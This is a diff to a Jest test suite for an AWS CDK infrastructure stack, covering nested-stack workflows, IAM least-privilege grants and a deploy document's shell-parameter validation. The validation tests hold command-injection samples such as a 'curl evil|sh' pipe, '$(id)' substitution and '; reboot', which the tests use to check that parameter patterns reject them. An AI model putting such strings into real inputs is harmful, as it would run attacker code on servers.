@@ -1,4 +1,5 @@
-import { App, Validations, type CfnElement } from 'aws-cdk-lib';
+import { App, Names, NestedStack, Validations, type CfnElement } from 'aws-cdk-lib';
+import * as sqs from 'aws-cdk-lib/aws-sqs';
 import { Stack } from 'aws-cdk-lib';
 import * as apigw from 'aws-cdk-lib/aws-apigateway';
 import * as sns from 'aws-cdk-lib/aws-sns';
@@ -18,12 +19,13 @@ import { SCHEDULED_JOBS } from '../../lambdas/scheduled/jobs';
 import { TABLE_DESIGN } from '../../lambdas/repositories/table-design';
 import './handler-env';
 import { METRICS } from '../../lambdas/core/metric-names';
-import { PROVISION_CUSTOMER, WORKFLOWS, type StepAccess, type WorkflowDefinition, type WorkflowStep } from '../../statemachines/workflows';
+import { FLEET_UPDATE, PROVISION_CUSTOMER, RESIZE_CUSTOMER, RESTORE_CUSTOMER, WORKFLOWS, type StepAccess, type WorkflowDefinition, type WorkflowStep } from '../../statemachines/workflows';
 import { LIFECYCLE_WORKFLOWS, type LifecycleWorkflowId } from '../../lib/lifecycle-workflows';
 import { applyNagChecks } from '../../lib/nag';
 import { readDefinition, taskTimeouts } from '../../lib/workflow-definition';
 import { StackProStack } from '../../lib/stackpro-stack';
 import { CUSTOMER_CONTAINERS, PINNED_IMAGE } from '../../lib/customer-containers';
+import { APP_VERSIONS } from '../../lambdas/core/app-versions';
 import { CUSTOMER_SECRETS } from '../../lambdas/core/customer-secrets';
 import type { StackProFunction } from '../../lib/stackpro-function';
 import { attachedPolicies, statementsOfRole as statementsOfRoleIn, type Statement } from './iam-policies';
@@ -32,6 +34,8 @@ import { attachedPolicies, statementsOfRole as statementsOfRoleIn, type Statemen
 let app: App;
 let stack: StackProStack;
 let template: Template;
+/** The resize workflow's nested stack (lib/resize-workflow-stack.ts). */
+let nestedTemplate: Template;
 let nagChecks: AwsSolutionsChecks;
 const origin = cdkJson.context['stackpro:frontendOrigin'];
 
@@ -41,17 +45,25 @@ beforeAll(() => {
   nagChecks = applyNagChecks(app);
   // Synthesizes the app, which also runs cdk-nag: an unacknowledged finding throws here with the report.
   template = Template.fromStack(stack);
+  nestedTemplate = Template.fromStack(stack.resize);
 });
+
+/** The workflows whose state machine is in the main template; the resize lives in its nested stack. */
+const MAIN_WORKFLOWS = WORKFLOWS.filter((workflow) => workflow.id !== RESIZE_CUSTOMER.id);
+
+function templateOf(construct: IConstruct): Template {
+  return Stack.of(construct) === stack.resize ? nestedTemplate : template;
+}
 
 type Resource = { Type: string; Properties: Record<string, unknown> };
 
 function logicalId(construct: IConstruct): string {
   // Resolved rather than getLogicalId, which ignores overrideLogicalId (the alarm topic keeps its old id).
-  return stack.resolve((construct.node.defaultChild as CfnElement).logicalId) as string;
+  return Stack.of(construct).resolve((construct.node.defaultChild as CfnElement).logicalId) as string;
 }
 
 function resourceOf(construct: IConstruct): Resource {
-  return template.toJSON().Resources[logicalId(construct)] as Resource;
+  return templateOf(construct).toJSON().Resources[logicalId(construct)] as Resource;
 }
 
 function routeFunction(routeId: string) {
@@ -62,7 +74,7 @@ function routeFunction(routeId: string) {
 
 /** Every IAM statement granted to the role with this logical id (inline or through AWS::IAM::Policy). */
 function statementsOfRole(roleLogicalId: string): Statement[] {
-  return statementsOfRoleIn(template, roleLogicalId);
+  return [...statementsOfRoleIn(template, roleLogicalId), ...statementsOfRoleIn(nestedTemplate, roleLogicalId)];
 }
 
 /** The function of a workflow step, by its step id (construct id). */
@@ -112,17 +124,42 @@ const DISTINCT_STEPS: readonly WorkflowStep[] = [
 /** A workflow's step functions (substitution key to function), wherever the stack built them. */
 function stepFunctionsOf(workflow: WorkflowDefinition): Readonly<Record<string, StackProFunction>> {
   if (workflow.id === PROVISION_CUSTOMER.id) return stack.provisioning.stepFunctions;
+  if (workflow.id === RESIZE_CUSTOMER.id) return stack.resize.stepFunctions as Readonly<Record<string, StackProFunction>>;
   return stack.lifecycle.stepFunctions[workflow.id as LifecycleWorkflowId];
 }
 
 function stateMachineOf(workflow: WorkflowDefinition) {
   if (workflow.id === PROVISION_CUSTOMER.id) return stack.provisioning.stateMachine;
+  if (workflow.id === RESIZE_CUSTOMER.id) return stack.resize.stateMachine;
   return stack.lifecycle.stateMachines[workflow.id as LifecycleWorkflowId];
 }
 
+/**
+ * A function's ARN as a template sees it: `Fn::GetAtt` in its own stack; in the nested stack, for a
+ * main-stack function (the reused Point subdomain), the parameter CDK passes it in (named after it).
+ */
+function functionArnIn(owner: IConstruct, fn: IConstruct): unknown {
+  return Stack.of(owner) === Stack.of(fn) ? { 'Fn::GetAtt': [logicalId(fn), 'Arn'] } : { Ref: `referenceto${importedName(fn)}Arn` };
+}
+
+/** The name CDK gives the nested stack's parameter for a main-stack resource (`referenceto<this><attribute>`). */
+function importedName(construct: IConstruct): string {
+  return Names.nodeUniqueId((construct.node.defaultChild as CfnElement).node);
+}
+
+/** The resize state machine's ARN as the main template sees it: the nested stack's output. */
+function isResizeArn(value: unknown): boolean {
+  return text(value).includes(stack.resolve(stack.resize.nestedStackResource!.logicalId) as string) && text(value).includes('StateMachine');
+}
+
+/** Distinct steps only the resize runs: their functions are in the nested stack. */
+const RESIZE_ONLY_STEPS: readonly WorkflowStep[] = Object.values(RESIZE_CUSTOMER.steps).filter(
+  (step) => !MAIN_WORKFLOWS.some((workflow) => Object.values(workflow.steps).some((other) => other.id === step.id)),
+);
+
 /** Statements of every role in the template that allow `action`, with the role's logical id. */
 function grantsOf(action: string): { role: string; statement: Statement }[] {
-  return attachedPolicies(template).flatMap((policy) =>
+  return [...attachedPolicies(template), ...attachedPolicies(nestedTemplate)].flatMap((policy) =>
     policy.statements
       .filter((statement) => statement.Effect === 'Allow' && [statement.Action].flat().includes(action))
       .map((statement) => ({ role: policy.role, statement })),
@@ -158,9 +195,11 @@ describe('Lambda functions', () => {
   it('has one function per route, plus the authorizer, one per distinct workflow step id, one per scheduled job, the signing-key generator and rotator', () => {
     expect(Object.keys(stack.accountApi.routeFunctions).sort()).toEqual(ROUTES.map((route) => route.id).sort());
     // + the key generator and rotator (the billing sweeps are scheduled jobs), + RecoverStoppedExecution
-    const ours = 1 + MAIN_ROUTES.length + DISTINCT_STEPS.length + SCHEDULED_JOBS.length + 2 + 1;
+    const ours = 1 + MAIN_ROUTES.length + DISTINCT_STEPS.length - RESIZE_ONLY_STEPS.length + SCHEDULED_JOBS.length + 2 + 1;
     // + the custom resource provider framework's own function
     template.resourceCountIs('AWS::Lambda::Function', ours + 1);
+    // The resize's own steps are in its nested stack; Point subdomain is provisioning's.
+    nestedTemplate.resourceCountIs('AWS::Lambda::Function', RESIZE_ONLY_STEPS.length);
   });
 
   it('carries every function\'s grants in its role (no separate AWS::IAM::Policy), each inline policy well within IAM\'s 10,240 characters', () => {
@@ -180,8 +219,8 @@ describe('Lambda functions', () => {
     expect(longest).toBeLessThan(8_000);
   });
 
-  it('stays within CloudFormation\'s 500 resources per stack, with room for the next workflow', () => {
-    expect(Object.keys(template.toJSON().Resources).length).toBeLessThanOrEqual(470);
+  it('stays within CloudFormation\'s 500 resources per stack, with room for a few more routes', () => {
+    expect(Object.keys(template.toJSON().Resources).length).toBeLessThanOrEqual(490);
   });
 
   it.each(MAIN_ROUTES.map((route) => [route.id]))('%s runs on Node.js 24, arm64, traced, logging to its own group', (routeId) => {
@@ -238,8 +277,8 @@ describe('Lambda functions', () => {
       expect('RESUME_STATE_MACHINE_ARN' in environment).toBe(lifecycleArns || route.access.includes('lifecycle:resume'));
       expect('DEPROVISION_STATE_MACHINE_ARN' in environment).toBe(lifecycleArns);
       expect('BILLING_RETENTION_DAYS' in environment).toBe(route.access.includes('lifecycle:start'));
-      // Only Set up billing reads the plan prices; STRIPE_API_BASE is for the local sandbox only.
-      expect(environment).not.toHaveProperty('STRIPE_PRICE_IDS');
+      // Only the plan change (the customer's and the operators') and its confirmation by the webhook read the plan prices; STRIPE_API_BASE is for the local sandbox only.
+      expect('STRIPE_PRICE_IDS' in environment).toBe(['ChangePlan', 'AdminChangePlan', 'ReceiveStripeWebhook'].includes(route.id));
       expect(environment).not.toHaveProperty('STRIPE_API_BASE');
       expect(environment).not.toHaveProperty('JWT_PUBLIC_JWK');
       expect(environment).not.toHaveProperty('JWT_PUBLIC_KEYS_SECRET_ID');
@@ -523,7 +562,7 @@ describe.each(WORKFLOWS.map((workflow) => [workflow.id, workflow] as const))('%s
     for (const [key, step] of Object.entries(workflow.steps)) {
       const fn = stepFunctionsOf(workflow)[key];
       expect(fn?.node.id).toBe(step.id);
-      expect(values[key]).toEqual({ 'Fn::GetAtt': [logicalId(fn!), 'Arn'] });
+      expect(values[key]).toEqual(functionArnIn(stateMachineOf(workflow), fn!));
     }
   });
 
@@ -550,10 +589,10 @@ describe.each(WORKFLOWS.map((workflow) => [workflow.id, workflow] as const))('%s
   it('may invoke exactly the functions its ASL references', () => {
     const statements = statementsOfRole(logicalId(stateMachineOf(workflow).role));
     const invoke = statements.filter((statement) => [statement.Action].flat().includes('lambda:InvokeFunction'));
-    const resources = invoke.flatMap((statement) => [statement.Resource].flat()).map((resource) => JSON.stringify(resource));
-    expect(resources.sort()).toEqual(
-      [...new Set(Object.values(stepFunctionsOf(workflow)))].map((fn) => JSON.stringify({ 'Fn::GetAtt': [logicalId(fn), 'Arn'] })).sort(),
-    );
+    const resources = invoke.flatMap((statement) => [statement.Resource].flat());
+    const functions = [...new Set(Object.values(stepFunctionsOf(workflow)))];
+    expect(resources).toHaveLength(functions.length);
+    expect(resources).toEqual(expect.arrayContaining(functions.map((fn) => functionArnIn(stateMachineOf(workflow), fn))));
     expect(statements.flatMap((statement) => [statement.Action].flat()).filter((action) => /^(states|secretsmanager|ec2|dynamodb):/.test(action))).toEqual([]);
   });
 
@@ -568,8 +607,9 @@ describe.each(WORKFLOWS.map((workflow) => [workflow.id, workflow] as const))('%s
 });
 
 describe('Workflow state machines', () => {
-  it('are one per workflow: provisioning and the three lifecycle workflows', () => {
-    template.resourceCountIs('AWS::StepFunctions::StateMachine', WORKFLOWS.length);
+  it('are one per workflow: provisioning and the three lifecycle workflows here, the resize in its nested stack', () => {
+    template.resourceCountIs('AWS::StepFunctions::StateMachine', MAIN_WORKFLOWS.length);
+    nestedTemplate.resourceCountIs('AWS::StepFunctions::StateMachine', 1);
     expect(Object.keys(stack.lifecycle.stateMachines).sort()).toEqual(['DeprovisionCustomer', 'ResumeCustomer', 'SuspendCustomer']);
   });
 
@@ -629,6 +669,13 @@ describe('Workflow steps', () => {
     'ssm:read': ['ssm:DescribeInstanceInformation', 'ssm:GetCommandInvocation'],
     'ssm:customer-secrets': ['ssm:PutParameter', 'ssm:AddTagsToResource'],
     stripe: ['secretsmanager:GetSecretValue', 'secretsmanager:DescribeSecret'],
+    'ec2:modify-instance-type': ['ec2:ModifyInstanceAttribute'],
+    'ec2:modify-volume': ['ec2:ModifyVolume', 'ec2:DescribeVolumes', 'ec2:DescribeVolumesModifications'],
+    'ssm:run-shell': ['ssm:SendCommand'],
+    'backup:restore': ['backup:StartRestoreJob', 'backup:DescribeRecoveryPoint', 'backup:DescribeRestoreJob', 'iam:PassRole'],
+    'ec2:swap-volume': ['ec2:DescribeVolumes', 'ec2:AttachVolume', 'ec2:DetachVolume', 'ec2:ModifyInstanceAttribute'],
+    'ec2:delete-volume': ['ec2:DeleteVolume'],
+    'customers:list': ['dynamodb:Query'],
   };
 
   /** The environment each access adds on top of TABLE_NAME (names from lambdas/config.ts). */
@@ -650,10 +697,17 @@ describe('Workflow steps', () => {
     'ssm:read': [],
     'ssm:customer-secrets': ['INSTANCE_ARN_PREFIX'],
     stripe: ['STRIPE_SECRET_ID'],
+    'ec2:modify-instance-type': [],
+    'ec2:modify-volume': [],
+    'ssm:run-shell': [],
+    'backup:restore': ['BACKUP_VAULT_NAME', 'BACKUP_ROLE_ARN', 'VOLUME_ARN_PREFIX'],
+    'ec2:swap-volume': [],
+    'ec2:delete-volume': [],
+    'customers:list': [],
   };
 
   /** Settings a step reads beyond its access, by step id. */
-  const STEP_SETTINGS: Readonly<Record<string, readonly string[]>> = { SetUpBilling: ['STRIPE_PRICE_IDS'] };
+  const STEP_SETTINGS: Readonly<Record<string, readonly string[]>> = { SetUpBilling: ['STRIPE_PRICE_IDS'], PutBackPreviousPrice: ['STRIPE_PRICE_IDS'] };
 
   function stepFunction(stepId: string): StackProFunction {
     for (const workflow of WORKFLOWS) {
@@ -732,7 +786,15 @@ describe('Workflow steps', () => {
     (action) => {
       const grants = grantsOf(action);
       expect(grants.map((grant) => grant.role).sort()).toEqual(stepsWith('ec2:stop-start').map(roleOf).sort());
-      expect(stepsWith('ec2:stop-start').sort()).toEqual(['CheckInstanceStarted', 'CheckInstanceStopped', 'StartInstance', 'StopInstance']);
+      expect(stepsWith('ec2:stop-start').sort()).toEqual([
+        'CheckInstanceStarted',
+        'CheckInstanceStopped',
+        'RestorePreviousType',
+        'StartInstance',
+        'StartInstanceAfterResize',
+        'StopInstance',
+        'StopInstanceForResize',
+      ]);
       for (const { statement } of grants) {
         expect(text(statement.Resource)).toMatch(/:ec2:",\{"Ref":"AWS::Region"\},":",\{"Ref":"AWS::AccountId"\},":instance\/\*"/);
         expect(statement.Condition).toEqual({ StringEquals: { 'aws:ResourceTag/ManagedBy': 'stackpro' } });
@@ -745,7 +807,7 @@ describe('Workflow steps', () => {
     const backupRole = logicalId(stack.customerBackups.backupRole);
     const grants = grantsOf('ec2:CreateSnapshot').filter((grant) => grant.role !== backupRole);
     expect(new Set(grants.map((grant) => grant.role))).toEqual(new Set(stepsWith('ec2:snapshot').map(roleOf)));
-    expect(stepsWith('ec2:snapshot').sort()).toEqual(['CheckSnapshot', 'SnapshotDataVolume']);
+    expect(stepsWith('ec2:snapshot').sort()).toEqual(['CheckSnapshot', 'SnapshotBeforeResize', 'SnapshotDataVolume']);
     for (const stepId of stepsWith('ec2:snapshot')) {
       const mine = grants.filter((grant) => grant.role === roleOf(stepId)).map((grant) => grant.statement);
       const volume = mine.find((statement) => text(statement.Resource).includes(':volume/*'));
@@ -888,6 +950,7 @@ describe('Workflow steps', () => {
       [
         roleOf('SendWelcomeEmail'),
         roleOf('SendLifecycleEmail'),
+        roleOf('CompletePlanChange'),
         routeRoleOf('ReceiveStripeWebhook'),
         // The verification email (no user-typed text in it).
         routeRoleOf('SignUp'),
@@ -904,13 +967,29 @@ describe('Workflow steps', () => {
     }
   });
 
-  it('only DeployApplications can send commands: the deploy document, on ManagedBy=stackpro instances', () => {
+  it('only DeployApplications (the deploy document), GrowFileSystem and CheckAppsAnswer (AWS-RunShellScript) can send commands, on ManagedBy=stackpro instances', () => {
     const grants = grantsOf('ssm:SendCommand');
-    expect(new Set(grants.map((grant) => grant.role))).toEqual(new Set([roleOf('DeployApplications')]));
-    const document = grants.find(({ statement }) => text(statement.Resource).includes(':document/'))!.statement;
-    expect(text(document.Resource)).toContain(':document/StackPro-DeployApplications"');
-    const instances = grants.find(({ statement }) => text(statement.Resource).includes(':instance/*'))!.statement;
-    expect(instances.Condition).toEqual({ StringEquals: { 'ssm:resourceTag/ManagedBy': 'stackpro' } });
+    expect(new Set(grants.map((grant) => grant.role))).toEqual(new Set([roleOf('DeployApplications'), roleOf('GrowFileSystem'), roleOf('CheckAppsAnswer')]));
+    const documentOf = (role: string) => grants.find((grant) => grant.role === role && text(grant.statement.Resource).includes(':document/'))!.statement;
+    expect(text(documentOf(roleOf('DeployApplications')).Resource)).toContain(':document/StackPro-DeployApplications"');
+    expect(text(documentOf(roleOf('GrowFileSystem')).Resource)).toContain(':document/AWS-RunShellScript"');
+    expect(text(documentOf(roleOf('CheckAppsAnswer')).Resource)).toContain(':document/AWS-RunShellScript"');
+    for (const { statement } of grants.filter((grant) => text(grant.statement.Resource).includes(':instance/*'))) {
+      expect(statement.Condition).toEqual({ StringEquals: { 'ssm:resourceTag/ManagedBy': 'stackpro' } });
+    }
+  });
+
+  it('only the resize steps can ModifyInstanceAttribute: the type only, to a plan type, on ManagedBy=stackpro instances', () => {
+    const grants = grantsOf('ec2:ModifyInstanceAttribute');
+    expect(grants.map((grant) => grant.role).sort()).toEqual([roleOf('ChangeInstanceType'), roleOf('RestorePreviousType')].sort());
+    for (const { statement } of grants) {
+      expect(text(statement.Resource)).toMatch(/:instance\/\*"/);
+      expect(statement.Condition).toEqual({
+        StringEquals: { 'aws:ResourceTag/ManagedBy': 'stackpro', 'ec2:Attribute/InstanceType': ['t3.micro', 't3.small', 't3.medium'] },
+      });
+    }
+    expect(grantsOf('ec2:ModifyVolume').map((grant) => grant.role)).toEqual([roleOf('GrowVolume')]);
+    expect(grantsOf('ec2:ModifyVolume')[0]!.statement.Condition).toEqual({ StringEquals: { 'aws:ResourceTag/ManagedBy': 'stackpro' } });
   });
 
   it('no step can start executions, invoke functions, use KMS, or read a secret other than the Stripe keys (when it declares stripe)', () => {
@@ -919,11 +998,12 @@ describe('Workflow steps', () => {
       const actions = statements.flatMap((statement) => [statement.Action].flat());
       expect(actions.filter((action) => /^(states|kms|lambda):/.test(action))).toEqual([]);
       const secretReads = statements.filter((statement) => [statement.Action].flat().some((action) => action.startsWith('secretsmanager:')));
+      // In the nested stack the secret is a parameter named after it.
       expect(secretReads.map((statement) => statement.Resource)).toEqual(
-        step.access.includes('stripe') ? [{ Ref: logicalId(stack.stripeKeys.secret) }] : [],
+        step.access.includes('stripe') ? [{ Ref: expect.stringMatching(new RegExp(`^(${logicalId(stack.stripeKeys.secret)}|referenceto${importedName(stack.stripeKeys.secret)}Ref)$`)) }] : [],
       );
     }
-    expect(stepsWith('stripe').sort()).toEqual(['CancelSubscription', 'SetUpBilling']);
+    expect(stepsWith('stripe').sort()).toEqual(['CancelSubscription', 'PutBackPreviousPrice', 'SetUpBilling']);
   });
 });
 
@@ -1046,10 +1126,10 @@ describe('DeployDocument', () => {
     };
   }
 
-  it('is a schema 2.2 shell script with exactly the three parameters Deploy applications sends', () => {
+  it('is a schema 2.2 shell script with exactly the parameters Deploy applications and the fleet update send', () => {
     const content = documentContent();
     expect(content.schemaVersion).toBe('2.2');
-    expect(Object.keys(content.parameters).sort()).toEqual(['CustomerId', 'Plan', 'Subdomain']);
+    expect(Object.keys(content.parameters).sort()).toEqual(['AppVersion', 'CustomerId', 'Plan', 'Subdomain']);
     expect(content.mainSteps.map((step) => step.action)).toEqual(['aws:runShellScript']);
   });
 
@@ -1057,6 +1137,7 @@ describe('DeployDocument', () => {
     ['CustomerId', '0b6f0f8e-5d0a-4c59-9a3e-2f1b8c7d6e5f', ["x'; curl evil|sh; '", '../other-customer', '']],
     ['Subdomain', `acme-co.${cdkJson.context['stackpro:customerDomain']}`, ['acme.evil.example', `a b.${cdkJson.context['stackpro:customerDomain']}`, `$(id).${cdkJson.context['stackpro:customerDomain']}`]],
     ['Plan', 'business', ['business; reboot', 'gold']],
+    ['AppVersion', APP_VERSIONS[0]!.version, [`${APP_VERSIONS[0]!.version}; reboot`, '2099.01.0', `${APP_VERSIONS[0]!.version.replace(/\./g, 'x')}`]],
   ])('%s admits %s and nothing that could break out of the shell', (name, valid, invalid) => {
     const pattern = new RegExp(documentContent().parameters[name]!.allowedPattern);
     expect(pattern.test(valid)).toBe(true);
@@ -1077,7 +1158,15 @@ describe('DeployDocument', () => {
   it('runs every container from an image pinned by digest (a floating tag fails this test)', () => {
     const runs = scriptLines().filter((line) => line.startsWith('run '));
     expect(runs.map((line) => line.split(' ')[1])).toEqual(CUSTOMER_CONTAINERS.map((container) => container.name));
-    for (const line of runs) expect(line.split(' ')[2]).toMatch(PINNED_IMAGE);
+    // Each run line takes its image from the version switch, whose every arm sets only pinned images.
+    for (const line of runs) expect(line.split(' ')[2]).toMatch(/^"\$IMAGE_[A-Z]+"$/);
+    const arms = scriptLines().filter((line) => /^ {2}'\d{4}\.\d{2}\.\d+'\)/.test(line));
+    expect(arms.map((line) => /'([^']+)'\)/.exec(line)![1])).toEqual(APP_VERSIONS.map((entry) => entry.version));
+    for (const arm of arms) {
+      const images = [...arm.matchAll(/IMAGE_[A-Z]+='([^']+)'/g)].map((match) => match[1]);
+      expect(images).toHaveLength(CUSTOMER_CONTAINERS.length);
+      for (const image of images) expect(image).toMatch(PINNED_IMAGE);
+    }
     // No other way to start a container or pull an image sneaks in beside `run`.
     const script = scriptLines().join('\n');
     expect(script.match(/docker (run|pull|create)\b/g)).toEqual(['docker run']);
@@ -1085,8 +1174,11 @@ describe('DeployDocument', () => {
     // Each image's repository appears only in its pinned reference (no second, floating mention).
     for (const { image } of CUSTOMER_CONTAINERS) {
       const repository = image.split(/[:@]/)[0]!;
-      const mentions = script.split(/[\s"]+/).filter((word) => word.startsWith(`${repository}:`) || word.startsWith(`${repository}@`));
-      expect(mentions).toEqual([image]);
+      // One pinned mention per version (the switch's arms), no second, floating mention.
+      const mentions = script.split(/[\s"';=]+/).filter((word) => word.startsWith(`${repository}:`) || word.startsWith(`${repository}@`));
+      expect(mentions).toHaveLength(APP_VERSIONS.length);
+      expect(mentions).toContain(image);
+      for (const mention of mentions) expect(mention).toMatch(PINNED_IMAGE);
     }
   });
 
@@ -1239,9 +1331,10 @@ describe('StripeKeys', () => {
   });
 
   it('can be read by exactly the routes and steps that declare stripe access', () => {
-    const secretRef = text({ Ref: logicalId(stack.stripeKeys.secret) });
+    // Its Ref here; in the nested stack, the parameter named after it.
+    const secretRefs = [text({ Ref: logicalId(stack.stripeKeys.secret) }), text({ Ref: `referenceto${importedName(stack.stripeKeys.secret)}Ref` })];
     const readers = grantsOf('secretsmanager:GetSecretValue')
-      .filter(({ statement }) => text(statement.Resource).includes(secretRef))
+      .filter(({ statement }) => secretRefs.some((ref) => text(statement.Resource).includes(ref)))
       .map(({ role }) => role);
     const declared = [
       ...ROUTES.filter((route) => route.access.includes('stripe')).map((route) => logicalId(routeFunction(route.id).role!)),
@@ -1255,7 +1348,7 @@ describe('StripeKeys', () => {
       recoveryRole(),
     ];
     expect(readers.sort()).toEqual(declared.sort());
-    expect(declared).toHaveLength(7);
+    expect(declared).toHaveLength(10);
   });
 });
 
@@ -1280,15 +1373,17 @@ describe('Billing routes', () => {
     },
   );
 
-  it('ReceiveStripeWebhook: table, Stripe keys, start the lifecycle workflows, send email; nothing else', () => {
+  it('ReceiveStripeWebhook: table, Stripe keys, start the lifecycle workflows and the resize, send email; nothing else', () => {
     expect(ownActions('ReceiveStripeWebhook')).toEqual(
       [...stripeRead, ...tableRead, ...tableWrite, 'states:StartExecution', 'ses:SendEmail'].sort(),
     );
     const statements = statementsOfRole(logicalId(routeFunction('ReceiveStripeWebhook').role!));
     const starts = statements.filter((statement) => [statement.Action].flat().includes('states:StartExecution'));
-    expect(starts.flatMap((statement) => [statement.Resource].flat()).map((resource) => text(resource)).sort()).toEqual(
+    const started = starts.flatMap((statement) => [statement.Resource].flat());
+    expect(started.filter((resource) => !isResizeArn(resource)).map((resource) => text(resource)).sort()).toEqual(
       LIFECYCLE_WORKFLOWS.map(({ workflow }) => text({ Ref: logicalId(stack.lifecycle.stateMachines[workflow.id]) })).sort(),
     );
+    expect(started.filter(isResizeArn)).toHaveLength(1);
     const secrets = statements.filter((statement) => [statement.Action].flat().some((action) => action.startsWith('secretsmanager:')));
     expect(secrets.map((statement) => statement.Resource)).toEqual([{ Ref: logicalId(stack.stripeKeys.secret) }]);
     // Not the provisioning workflow, not the JWT signing key.
@@ -1355,12 +1450,12 @@ describe('IAM least privilege', () => {
 
   it('admin routes need an IAM signature, granted only by the AdminAccess managed policy', () => {
     const admin = ROUTES.filter((route) => route.auth === 'iam');
-    expect(admin.map((route) => route.id)).toEqual(['RetryProvisioning', 'ListCustomers', 'GetCustomer', 'AdminSuspendCustomer', 'AdminResumeCustomer', 'StartCustomerBackup']);
+    expect(admin.map((route) => route.id)).toEqual(['RetryProvisioning', 'ListCustomers', 'GetCustomer', 'AdminSuspendCustomer', 'AdminResumeCustomer', 'StartCustomerBackup', 'AdminChangePlan', 'AdminRestoreCustomer', 'StartFleetUpdate', 'GetFleetUpdate']);
     const policy = resourceOf(stack.accountApi.adminPolicy).Properties as { PolicyDocument: { Statement: Statement[] } };
     expect(policy.PolicyDocument.Statement).toHaveLength(1);
     expect(policy.PolicyDocument.Statement[0].Action).toBe('execute-api:Invoke');
     const resources = JSON.stringify(policy.PolicyDocument.Statement[0].Resource);
-    for (const path of ['/POST/admin/customers/*/provisioning/retry', '/GET/admin/customers"', '/GET/admin/customers/*"', '/POST/admin/customers/*/suspend', '/POST/admin/customers/*/resume']) {
+    for (const path of ['/POST/admin/customers/*/provisioning/retry', '/GET/admin/customers"', '/GET/admin/customers/*"', '/POST/admin/customers/*/suspend', '/POST/admin/customers/*/resume', '/POST/admin/customers/*/plan']) {
       expect(resources).toContain(path);
     }
     template.hasOutput('AdminPolicyArn', {});
@@ -1422,7 +1517,7 @@ describe('IAM least privilege', () => {
       .filter((statement) => statement.Resource === '*')
       .flatMap((statement) => [statement.Action].flat());
     const noResourceLevel =
-      /^(xray:|logs:[A-Za-z]+Log(Delivery|Deliveries|Groups)$|logs:(DescribeResourcePolicies|PutResourcePolicy)$|ec2:Describe(Instances|Snapshots|Volumes|Tags)$|tag:GetResources$|backup:ListRecoveryPointsByResource$|ssm:(DescribeInstanceInformation|GetCommandInvocation)$|cloudwatch:GetMetricData$)/;
+      /^(xray:|logs:[A-Za-z]+Log(Delivery|Deliveries|Groups)$|logs:(DescribeResourcePolicies|PutResourcePolicy)$|ec2:Describe(Instances|Snapshots|Volumes|VolumesModifications|Tags)$|tag:GetResources$|backup:ListRecoveryPointsByResource$|ssm:(DescribeInstanceInformation|GetCommandInvocation)$|cloudwatch:GetMetricData$)/;
     // The SSM agent's channel on customer servers (the Run Command subset of AmazonSSMManagedInstanceCore).
     const agentChannel = /^(ec2messages:|ssmmessages:|ssm:(UpdateInstanceInformation|ListInstanceAssociations)$)/;
     expect(wildcardActions.filter((action) => !noResourceLevel.test(action) && !agentChannel.test(action) && action !== 'cloudwatch:PutMetricData')).toEqual([]);
@@ -1464,7 +1559,7 @@ describe('OperationsMonitoring (alarms on the operators\' topic, and the dashboa
     const machines = Object.keys(template.findResources('AWS::StepFunctions::StateMachine'));
     const watched = (metricName: string) =>
       new Set(alarms().filter((alarm) => alarm.MetricName === metricName).flatMap((alarm) => alarm.Dimensions!.map((d) => (d.Value as { Ref: string }).Ref)));
-    expect(machines.length).toBeGreaterThanOrEqual(WORKFLOWS.length);
+    expect(machines.length).toBeGreaterThanOrEqual(MAIN_WORKFLOWS.length);
     for (const machine of machines) {
       expect(watched('ExecutionsFailed').has(machine)).toBe(true);
       expect(watched('ExecutionsTimedOut').has(machine)).toBe(true);
@@ -1739,7 +1834,7 @@ describe('X-Ray tracing', () => {
   });
 
   it('traces every state machine', () => {
-    const machines = Object.values(template.findResources('AWS::StepFunctions::StateMachine')) as Resource[];
+    const machines = [template, nestedTemplate].flatMap((one) => Object.values(one.findResources('AWS::StepFunctions::StateMachine')) as Resource[]);
     expect(machines).toHaveLength(WORKFLOWS.length);
     expect(machines.map((machine) => machine.Properties.TracingConfiguration)).toEqual(machines.map(() => ({ Enabled: true })));
   });
@@ -1754,15 +1849,28 @@ describe('X-Ray tracing', () => {
 describe('StoppedExecutionRecovery', () => {
   const recovery = () => stack.stoppedExecutionRecovery;
 
-  it('matches FAILED, TIMED_OUT and ABORTED status changes of exactly our four state machines', () => {
+  it('matches FAILED, TIMED_OUT and ABORTED status changes of exactly our five state machines (the resize through its nested stack\'s output)', () => {
     const rule = resourceOf(recovery().rule).Properties as { EventPattern: { detail: { stateMachineArn: unknown } } & Record<string, unknown> };
     expect(rule.EventPattern).toMatchObject({
       source: ['aws.states'],
       'detail-type': ['Step Functions Execution Status Change'],
       detail: { status: ['FAILED', 'TIMED_OUT', 'ABORTED'] },
     });
-    const machines = WORKFLOWS.map((workflow) => ({ Ref: logicalId(stateMachineOf(workflow)) }));
-    expect(rule.EventPattern.detail.stateMachineArn).toEqual(machines);
+    const machines = MAIN_WORKFLOWS.map((workflow) => ({ Ref: logicalId(stateMachineOf(workflow)) }));
+    const matched = rule.EventPattern.detail.stateMachineArn as unknown[];
+    expect(matched.slice(0, -3)).toEqual(machines);
+    expect(isResizeArn(matched.at(-3))).toBe(true);
+    // Then the RestoreCustomer workflow's, an output of its nested stack.
+    expect(matched.at(-2)).toEqual({ 'Fn::GetAtt': [expect.stringMatching(/^RestoreWorkflowNestedStack/), expect.stringMatching(/RestoreCustomerStateMachine/)] });
+    // Then the FleetUpdate workflow's, likewise.
+    expect(matched.at(-1)).toEqual({ 'Fn::GetAtt': [expect.stringMatching(/^FleetUpdateNestedStack/), expect.stringMatching(/FleetUpdateStateMachine/)] });
+  });
+
+  it('knows the FleetUpdate state machine by its ARN, and may not start it', () => {
+    const env = (resourceOf(recovery().function).Properties as { Environment: { Variables: Record<string, unknown> } }).Environment.Variables;
+    expect(env.FLEET_UPDATE_STATE_MACHINE_ARN).toEqual({ 'Fn::GetAtt': [expect.stringMatching(/^FleetUpdateNestedStack/), expect.stringMatching(/FleetUpdateStateMachine/)] });
+    const starts = statementsOfRole(recoveryRole()).filter((statement) => [statement.Action].flat().includes('states:StartExecution'));
+    expect(starts.map((statement) => text(statement.Resource)).join()).not.toContain('FleetUpdate');
   });
 
   it('tells the operators when any event lands in the dead-letter queue', () => {
@@ -1813,14 +1921,14 @@ describe('StoppedExecutionRecovery', () => {
 
 // Messaging (lib/messaging-stack.ts): its nested template, from this file's one synth.
 const messagingRoutes = ROUTES.filter((route) => route.stack === 'messaging');
-let nested: Template;
+let messagingNested: Template;
 beforeAll(() => {
-  nested = Template.fromStack(stack.messaging);
+  messagingNested = Template.fromStack(stack.messaging);
 });
 
 describe('the messaging nested stack', () => {
